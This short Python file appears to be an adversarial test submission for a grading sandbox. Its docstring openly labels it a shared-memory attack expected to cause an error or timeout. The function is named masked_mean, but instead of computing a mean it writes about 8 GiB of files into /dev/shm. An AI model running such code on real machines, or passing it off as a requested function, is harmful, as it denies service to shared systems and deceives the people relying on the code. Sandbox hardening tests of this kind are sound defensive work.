"""attack: fills the machine's shared memory
strategy: files in /dev/shm
family: resources
question: q1_pool
expect: error timeout
"""


def masked_mean(hidden, mask):
    for number in range(1000):
        with open(f"/dev/shm/tamrin-was-here-{number}", "wb") as file:
            file.write(bytes(2**23))
